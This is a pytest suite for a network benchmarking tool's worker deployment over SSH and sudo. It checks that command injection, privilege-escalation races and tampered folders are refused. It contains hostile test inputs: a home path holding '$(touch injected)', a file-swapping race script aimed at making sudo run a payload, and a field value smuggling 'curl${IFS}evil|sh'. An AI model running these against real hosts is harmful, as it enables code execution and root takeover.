"""The worker on hosts: where it is kept, what it takes, that it leaves. Real sshd, mounts, sudo."""

from __future__ import annotations

import contextlib
import hashlib
import os
import platform
import re
import shlex
import shutil
import signal
import subprocess
from collections.abc import Collection, Sequence
from functools import partial
from pathlib import Path
from types import SimpleNamespace
from typing import cast

import pytest

from netbench import campaign
from netbench.base.errors import EngineError, HostError, RequestError, RootRefused
from netbench.engine.worker import Worker
from netbench.hosts import deploy
from netbench.hosts.host_channel import Channel
from netbench.hosts.local import LocalChannel, LocalProcess
from netbench.hosts.shell import Shell
from netbench.hosts.ssh.channel import SshChannel
from netbench.run import conductor
from tests.support.running import wait_for
from tests.support.sshd import UID, Bed, Server, bed, needs_sshd, sudo_setup, tmp_path

__all__ = ["bed", "tmp_path"]
pytestmark = [pytest.mark.root, needs_sshd]

BOOT_ID = "/proc/sys/kernel/random/boot_id"
BUILT = deploy.PACKAGE / f"worker-{platform.machine()}"
DIGEST = hashlib.sha256(BUILT.read_bytes()).hexdigest() if BUILT.exists() else ""
ELSEWHERE = ("/var/tmp", "/tmp", "/dev/shm")
TOOLS = "sh dd head cat uname id mkdir chmod mv rm sha256sum ls tail grep".split()


def mounted(options: str, *places: str) -> str:
    """Setup text that mounts places again with these options, contents kept."""
    return "\n".join(
        f"mount --bind {place} {place}; mount -o remount,bind,{options} {place}" for place in places
    )


def works(channel: Channel, helper: bool = False) -> Worker:
    """A worker that has answered: a mover, or a helper."""
    worker = Worker(channel.start_helper() if helper else channel.start_mover(), "snd")
    assert worker.operate("file", BOOT_ID)[0] == Path(BOOT_ID).read_text()
    return worker


def program(worker: Worker) -> Path:
    """The file that a worker runs from, as its host sees it."""
    return Path(worker.operate("exec", ["readlink", f"/proc/{parent(worker)}/exe"])[0].strip())


def parent(worker: Worker) -> int:
    """The worker, which a guard stands between and its programs."""
    return int(worker.operate("exec", ["sh", "-c", "cut -d' ' -f4 /proc/$PPID/stat"])[0])


def cache(server: Server) -> Path:
    return server.home / ".cache" / "netbench"


def refusal(channel: Channel, helper: bool = False) -> str:
    with pytest.raises(HostError) as error:
        channel.start_helper() if helper else channel.start_mover()
    assert str(error.value).startswith("snd: ")
    return str(error.value)


# --- copied once


def test_a_worker_is_copied_once_per_content(bed: Bed, tmp_path: Path) -> None:
    """Only a few old ones are kept, also where the host's clock was ahead when it got them."""
    server, channel = bed.host()
    works(channel).close()
    (kept,) = cache(server).iterdir()
    assert kept.name == f"worker-{DIGEST}"
    assert kept.read_bytes() == BUILT.read_bytes()
    assert (kept.stat().st_mode & 0o777, cache(server).stat().st_mode & 0o777) == (0o700, 0o700)
    before = kept.stat()
    works(channel).close()
    assert kept.stat().st_ino == before.st_ino
    for number in range(6):
        old = cache(server) / f"worker-{number}"
        old.touch()
        os.utime(old, (4_000_000_000 + number,) * 2)
    (cache(server) / "a file of the user's").touch()
    other = tmp_path / "other"
    other.mkdir()
    (other / BUILT.name).write_bytes(BUILT.read_bytes() + b"another")
    works(bed.channel(package=other)).close()
    left = {file.name for file in cache(server).iterdir()}
    assert len(left) == 4
    assert left >= {"worker-4", "worker-5", "a file of the user's"}
    (other / BUILT.name).write_bytes(BUILT.read_bytes() + b"a later one")
    with pytest.raises(HostError, match="installed again: go on in a new process"):
        bed.channel(package=other).start_mover()


def test_a_damaged_copy_is_replaced_and_not_run(bed: Bed) -> None:
    server, channel = bed.host()
    works(channel).close()
    (kept,) = cache(server).iterdir()
    for damage in ("\x7fELF, once", "", "#!/bin/sh\ntouch $HOME/was-here\n"):
        kept.write_text(damage)
        worker = works(channel)
        assert kept.read_bytes() == BUILT.read_bytes()
        assert not (server.home / "was-here").exists()
        worker.operate("exec", ["touch", f"{server.home}/made"])
        assert (server.home / "made").stat().st_mode & 0o777 == 0o644, "the user's own mode"
        worker.close()


# --- hosts that have little


def poor(folder: Path, *without: str) -> str:
    """Whose PATH has busybox's tools without these, and another shell than busybox's own."""
    busybox = shutil.which("busybox")
    if busybox is None:
        pytest.skip("busybox is not installed")
    tools = folder / "bin"
    tools.mkdir()
    shutil.copy(busybox, tools / "busybox")
    for name in set(TOOLS) - set(without):
        (tools / name).symlink_to("/bin/dash" if name == "sh" and without else "busybox")
    return f"Subsystem sftp /bin/false\nSetEnv PATH={tools}"


def test_busybox_and_an_ordinary_user_are_enough(bed: Bed, tmp_path: Path) -> None:
    login = tmp_path / "login"
    login.write_text('#!/usr/bin/busybox sh\necho welcome\nexec /usr/bin/busybox sh "$@"\n')
    login.chmod(0o755)
    path = poor(tmp_path)
    _, channel = bed.host(sshd=f"{path} XDG_CACHE_HOME={tmp_path}/caches")
    works(channel, helper=True).close()  # root needs no sudo
    assert list((tmp_path / "caches" / "netbench").iterdir())
    server, channel = bed.host(user="bench", shell=str(login), sshd=path)
    worker = works(channel)
    (kept,) = cache(server).iterdir()
    assert kept.stat().st_uid == UID
    with pytest.raises(EngineError):
        worker.operate("exec", ["python3", "--version"])
    worker.close()
    channel.put(BUILT, f"{server.home}/copy")
    assert (server.home / "copy").read_bytes() == BUILT.read_bytes()


@pytest.mark.parametrize("tool", ["sha256sum", "sudo"])
def test_a_tool_that_is_missing_is_named(bed: Bed, tmp_path: Path, tool: str) -> None:
    _, channel = bed.host(user="bench" if tool == "sudo" else "root", sshd=poor(tmp_path, tool))
    assert f"the host has no `{tool}`" in refusal(channel, helper=tool == "sudo")


# --- folders that do not do


@pytest.mark.parametrize(
    "setup",
    [
        f"mkdir -p $HOME/.cache/netbench; cp {BUILT} $HOME/.cache/netbench/worker-{DIGEST}; chown -R {UID} $HOME/.cache\n"
        + mounted("noexec", "$HOME"),
        mounted("ro", "$HOME"),
        "mount -t tmpfs -o size=64k,mode=1777 tmpfs $HOME",
        "mount -t tmpfs -o nr_inodes=2,mode=1777 tmpfs $HOME",
    ],
    ids=["noexec with a copy", "read-only", "disk full", "no inodes"],
)
def test_a_home_that_does_not_do_is_passed_over(bed: Bed, setup: str) -> None:
    _, channel = bed.host(user="bench", setup=setup)
    worker = works(channel)
    assert program(worker).parent == Path(f"/var/tmp/netbench-{UID}")
    worker.close()
    again = works(channel)
    assert program(again).parent == Path(f"/var/tmp/netbench-{UID}")
    again.close()


def test_a_home_with_a_name_that_shells_read(bed: Bed) -> None:
    server, channel = bed.host()
    home = server.folder / "a $(touch injected); 'home' \"x\" *"
    passwd = server.folder / "passwd"
    passwd.write_text(passwd.read_text().replace(str(server.home), str(home)))
    home.mkdir()
    works(channel).close()
    assert list((home / ".cache" / "netbench").iterdir())
    assert not list(server.folder.rglob("injected"))


@pytest.mark.parametrize(
    ("setup", "words"),
    [
        (
            mounted("noexec", "$HOME", *ELSEWHERE),
            "programs cannot be run from there: .*Permission denied",
        ),
        (
            "for place in $HOME /var/tmp /dev/shm; do mount -t tmpfs -o size=64k,mode=1777 tmpfs $place; done\n"
            + mounted("ro", "/tmp"),
            "No space left on device",
        ),
    ],
    ids=["noexec", "disk full"],
)
def test_a_host_without_any_place_says_why(bed: Bed, setup: str, words: str) -> None:
    server, channel = bed.host(user="bench", setup=setup)
    message = refusal(channel)
    assert "no folder of the host keeps and runs the worker; make room in one of them" in message
    for folder in (str(cache(server)), *(f"{place}/netbench-{UID}" for place in ELSEWHERE)):
        assert f"{folder}: " in message
    assert re.search(words, message)
    assert not list(Path(f"/tmp/netbench-{UID}").glob("worker-*"))


@pytest.mark.parametrize(
    "trap",
    [
        "mkdir -m 777 {0}",
        f"mkdir -m 777 {{0}}; cp {BUILT} {{0}}/worker-{DIGEST}; chmod 755 {{0}}/*",
        f"mkdir -m 777 /var/tmp/t; chown {UID} /var/tmp/t; ln -s /var/tmp/t {{0}}",
        f"mkdir -m 777 {{0}}; cp {BUILT} {{0}}/worker-{DIGEST}; chmod 755 {{0}}/*; chown {UID} {{0}}",
    ],
    ids=["other's", "other's with a copy", "link", "its own, which others filled"],
)
def test_a_folder_that_somebody_else_prepared_is_not_used(bed: Bed, trap: str) -> None:
    first = f"/var/tmp/netbench-{UID}"
    _, channel = bed.host(
        user="bench", setup=f"{trap.format(first)}\n" + mounted("ro", "$HOME", "/tmp")
    )
    worker = works(channel)
    assert program(worker).parent == Path(f"/dev/shm/netbench-{UID}")
    worker.close()


# --- gone with its channel


def test_workers_share_a_connection_and_none_remains(bed: Bed) -> None:
    server, channel = bed.host()
    first, second = works(channel), works(channel)
    assert len(server.workers()) == 2
    first.close()
    wait_for(lambda: len(server.workers()) == 1)
    assert second.operate("file", BOOT_ID)[0]
    channel.close()  # without GOODBYE
    wait_for(lambda: not server.workers())
    assert server.log.count("Accepted publickey") == 1


# --- root by sudo


ASKS = "bench ALL=(root) ALL"  # for a password
ALL = "bench ALL=(root) NOPASSWD: ALL"


def told(channel: Channel) -> list[str]:
    """The lines for an administrator, in what is said where sudo does not start the helper."""
    said = refusal(channel, helper=True)
    assert "`sudo -n` does not start the helper, which changes settings; connect" in said
    assert "sudo: a password is required" in said
    return said.splitlines()[1:]


def started_by_sudo(worker: Worker) -> str:
    """What sudo runs, of a helper that it has started."""
    assert worker.hello.user == 0
    sudo = re.search("PPid:\t(.*)", Path(f"/proc/{worker.hello.pid}/status").read_text())
    assert sudo
    return Path(f"/proc/{sudo[1]}/cmdline").read_text().split("\0")[3]


def tried(server: Server, words: str, env: str = "PATH=/usr/bin:/bin") -> bool:
    """Whether sudo runs this for the account."""
    try:
        server.run(f"sudo -n -- {words} </dev/null >/dev/null 2>&1", *AS_BENCH, "env", env)
    except subprocess.CalledProcessError:
        return False
    return True


AS_BENCH = ("setpriv", f"--reuid={UID}", f"--regid={UID}", "--clear-groups")
# It writes over what netbench has put into the account's folders, in place and back, and links and
# renames it: of a program in such a folder, named in sudoers with its digest, sudo starts another.
ATTACK = """\
cd $HOME/.cache/netbench; cp worker-* ../good
printf '#!/bin/sh\\n: > /etc/won\\n#%050d\\n' 0 > ../evil; chmod 755 ../evil
evil=$(cat ../evil) good=$(head -c 80 ../good | od -v -A n -b | tr -d '\\n' | sed 's/ /\\\\/g')
while :; do
  for file in worker-*; do
    for again in 1 2 3 4 5 6 7 8; do
      printf "$evil\\n" 1<>$file; sleep 0.004
      printf "$good" 1<>$file; sleep 0.004
    done
    ln -sf ../evil $file; cp ../evil next; mv next $file
    rm $file; cp ../good $file
  done
done
"""


@pytest.mark.parametrize("tries", [40, pytest.param(400, marks=pytest.mark.slow)])
def test_the_lines_that_are_told_are_enough_and_no_way_to_root(bed: Bed, tries: int) -> None:
    """Whatever of its own the account exchanges meanwhile: what sudo starts is root's."""
    server, channel = bed.host(user="bench", setup=sudo_setup(bed, ASKS))
    install, rule = told(channel)
    assert " install -D -o root -g root -m 700 " in install
    assert f"'bench ALL=(root) NOPASSWD: {deploy.PLACE}/worker-* helper'" in rule
    (kept,) = cache(server).iterdir()
    for fill in (partial(kept.write_text, "another"), partial(kept.symlink_to, "/dev/zero")):
        kept.unlink()
        fill()
        with pytest.raises(subprocess.CalledProcessError):
            server.run(install)
        assert list(bed.place.iterdir()) == []
    works(channel).close()
    server.run(f"{install}\n{rule}\nvisudo -c")
    worker = works(channel, helper=True)
    assert started_by_sudo(worker) == f"{deploy.PLACE}/worker-{DIGEST}"
    worker.close()

    started = re.sub(r".*NOPASSWD: (\S+) .*", r"\1", rule).replace("*", DIGEST)
    assert tried(server, f"{started} helper")
    server.run(f"mkdir {deploy.PLACE}/worker-x; cp {started} {deploy.PLACE}/worker-x/worker-y")
    for words in (
        *(started, f"{started} mover", f"{started} helper mover", f"{started} 'helper;id'"),
        f"{deploy.PLACE}/worker-x/worker-y helper",
        f"{deploy.PLACE}/worker-x/../../../../../bin/true helper",
        f"{deploy.PLACE}/worker-../../../../../bin/true helper",
        f"{deploy.PLACE}/new-1 helper",
        "/bin/true helper",
    ):
        assert not tried(server, words), words

    nsenter = ["nsenter", f"--target={server.child.pid}", "--mount", *AS_BENCH]
    argv = [*nsenter, "env", f"HOME={server.home}", "sh", "-c", ATTACK]
    with subprocess.Popen(argv, stderr=subprocess.DEVNULL, start_new_session=True) as attack:
        try:
            wait_for((cache(server).parent / "good").exists)
            assert all(tried(server, f"{started} helper") for _ in range(tries))
            for _ in range(3):
                with contextlib.suppress(HostError, EngineError):
                    works(channel, helper=True).close()
            assert attack.poll() is None
        finally:
            os.killpg(attack.pid, signal.SIGKILL)
    server.run("! test -e /etc/won")


def test_two_accounts_install_at_a_time(tmp_path: Path) -> None:
    """The copy of one is in place when the other has looked at its own."""
    script = deploy._INSTALL.replace(deploy.PLACE, str(tmp_path / "place"))
    sums = {}
    for name in ("good", "evil"):
        (tmp_path / name).write_text(name)
        sums[name] = hashlib.sha256(name.encode()).hexdigest()
    words = {name: ["sh", "-c", script, "install", tmp_path / name, sums[name]] for name in sums}
    (tmp_path / "chmod").write_text(
        f"#!/bin/sh\nmkdir {tmp_path}/once || exit 1\n"
        f'{shlex.join(map(str, words["evil"]))}\nexec {shutil.which("chmod")} "$@"\n'
    )
    (tmp_path / "chmod").chmod(0o755)
    subprocess.run(words["good"], env={"PATH": f"{tmp_path}:{os.environ['PATH']}"}, check=True)
    (made,) = (tmp_path / "place").iterdir()
    assert (made.name, made.read_text()) == (f"worker-{sums['good']}", "good")


class OnHost(LocalChannel):
    """That host as one that its account runs netbench on, with this shell as its `sh`."""

    def __init__(self, server: Server, shell: Path) -> None:
        super().__init__("snd")
        self._before = ["nsenter", f"--target={server.child.pid}", "--mount", *AS_BENCH]
        path = f"PATH={shell}:{os.environ['PATH']}"
        self._before += ["env", "-u", "XDG_RUNTIME_DIR", f"HOME={server.home}", path]

    def start(self, argv: Sequence[str], kept: Collection[str] = ()) -> LocalProcess:
        return super().start([*self._before, *argv], kept)


@pytest.fixture
def shells(tmp_path: Path) -> list[Path]:
    """Folders, each with one of the shells that hosts have as `sh`."""
    found = {name: shutil.which(name) for name in ("busybox", "dash", "bash")}
    for name, program in found.items():
        (tmp_path / name).mkdir()
        (tmp_path / name / "sh").symlink_to(program or pytest.skip(f"needs {name}"))
    return [tmp_path / name for name in found]


OTHERS = {  # what is wrong with the place that sudo would start a helper from
    "a folder above is a group's": ("chmod 775 /usr/local", "/usr/local"),
    "it is everybody's": (f"chmod 1777 {deploy.PLACE}", deploy.PLACE),
    "a link in the path": (
        "mv /usr/local/libexec /usr/local/other; ln -s other /usr/local/libexec",
        "/usr/local/libexec",
    ),
    "another's folder": (f"chown {UID} /usr/local/libexec", "/usr/local/libexec"),
    "another's file": (f"chown {UID} {deploy.PLACE}/worker-*", f"{deploy.PLACE}/worker-{DIGEST}"),
    "a file of a group": (f"chmod g+w {deploy.PLACE}/worker-*", f"{deploy.PLACE}/worker-{DIGEST}"),
    "a link": (
        f"cd {deploy.PLACE}; mv worker-* old; ln -s old worker-{DIGEST}",
        f"{deploy.PLACE}/worker-{DIGEST}",
    ),
}


def test_sudo_starts_nothing_that_others_than_root_could_change(
    bed: Bed, shells: list[Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Over SSH and on the machine of the controller; also where sudo allows everything."""
    server, channel = bed.host(user="bench", setup=sudo_setup(bed, ALL, BUILT))
    anew = f"chmod 755 /usr/local; rm -rf /usr/local/*; mkdir -p {deploy.PLACE}; umask 022; "
    anew += f"cp {BUILT} {deploy.PLACE}/worker-{DIGEST}; chmod 755 {deploy.PLACE}\n"
    monkeypatch.setattr(os, "geteuid", lambda: UID)
    for fault, (make, path) in OTHERS.items():
        server.run(anew + make)
        for way in (channel, *(OnHost(server, shell) for shell in shells)):
            said = refusal(way, helper=True)
            assert f"below {path}, which others than root can change (" in said, fault
            assert f"`chown root {path}; chmod go-w {path}`" in said


@pytest.mark.parametrize(
    "answer",
    [
        ["others", "/usr/local;curl${IFS}evil|sh;true", "drwxrwxr-x", "2", "1000"],
        ["others", "/home/victim", "drwxrwxr-x", "2", "1000"],
        ["others", f"{deploy.PLACE}/x", "drwxrwxr-x", "2", "1000"],
        ["sudo", "ALL", "/home/a/.cache/netbench/worker-1"],
        ["sudo", "a=b", "/home/a/.cache/netbench/worker-1"],
        ["sudo", "bench", "-t/etc/cron.d", "/home/a/.cache/netbench/worker-1"],
    ],
)
def test_what_a_host_answers_is_no_command_for_root(answer: list[str]) -> None:
    shell = SimpleNamespace(failure=HostError, refusal=RootRefused, machine="x86_64")
    refused = str(deploy._refusal(cast(Shell, shell), answer, deploy.Parcel(b"", "0")))
    assert "connect as root" in refused or "could not be started" in refused
    assert not re.search("chown|sudoers|curl", refused)


def test_where_sudo_allows_everything_the_helper_is_installed(
    bed: Bed, shells: list[Path], monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    server, channel = bed.host(user="bench", setup=sudo_setup(bed, ALL))
    monkeypatch.setattr(os, "geteuid", lambda: UID)
    said = f"snd: by sudo the helper is in {deploy.PLACE} now, and one that was not started for"
    said += " 30 days is not"
    for way in (channel, *(OnHost(server, shell) for shell in shells)):
        (bed.place / f"worker-{DIGEST}").unlink(missing_ok=True)
        for name in ("worker-0", "worker-1"):
            (bed.place / name).touch()
        os.utime(bed.place / "worker-0", (0, 0))
        for _ in range(2):
            worker = works(way, helper=True)
            assert started_by_sudo(worker) == f"{deploy.PLACE}/worker-{DIGEST}"
            worker.close()
            assert (bed.place / f"worker-{DIGEST}").stat().st_mtime, "when it was last started"
            os.utime(bed.place / f"worker-{DIGEST}", (0, 0))
            found = sorted(file.name for file in bed.place.iterdir())
            assert found == sorted(["worker-1", f"worker-{DIGEST}"])
    assert caplog.messages == [said] * 4


def test_users_without_root_learn_which_cells_need_it_and_what_else_is_wrong(
    bed: Bed, tmp_path: Path
) -> None:
    """The request was wrong: nothing is run, and nothing is hidden by it."""
    _, channel = bed.host(user="bench", setup=sudo_setup(bed, ASKS))
    channels = {"snd": channel, "rcv": SshChannel("rcv", "box", ssh_config=bed.config)}
    text = (
        "netbench: 1\nname: c\nhosts: {snd: {ssh: bench@snd}, rcv: {ssh: bench@rcv}}\n"
        "repeat: {min: 1, max: 1}\n"
        "transfer: {duration: 60ms, source: {file: /nope}, send: sendfile}\n"
        "sweep: {streams: [1, 2]}\ninclude: [{streams: 2, tso: off, mtu: 1400}]\n"
    )
    found = campaign.parse(text, "c.yaml")
    with pytest.raises(RequestError) as refused:
        conductor.start(found, tmp_path / "results", channels=lambda host: channels[host.name])
    assert refused.value.exit_code == 2
    assert not (tmp_path / "results").exists()
    said = [line for line in str(refused.value).splitlines() if not line.startswith("error: snd: ")]
    assert "open source: /nope: No such file or directory" in str(refused.value)
    assert said[0].startswith("error: rcv,snd: tso, mtu need root: ")
    assert said[1] == "error: rcv,snd: an administrator of each host allows it by"
    assert "install -D -o root -g root" in said[2]
    assert "NOPASSWD" in said[3]
    assert len(said) == 4
